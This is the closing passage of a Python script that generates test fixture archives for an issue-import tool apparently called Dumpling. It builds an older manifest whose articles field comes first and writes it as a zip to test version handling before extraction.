    # The older version again, its latest.json giving the articles before the issue's own
    # fields (valid JSON, which Dumpling reads alike): nothing can be peeked from its first bytes,
    # so an import of it over a held issue must decide the versions before extracting.
    older = manifest("example-valid")
    older["last_updated"] = "2020-02-01T00:00:00.000+0000"
    doc = {"articles": older.pop("articles")}
    doc.update(older)
    os.makedirs(os.path.join(folder, "articles-first"))
    with open(os.path.join(folder, "articles-first", "example-valid.zip"), "wb") as f:
        f.write(build(issue_entries("example-valid", doc=doc)))


if __name__ == "__main__":
    zips()
    versions()
    manifests()
    sources()
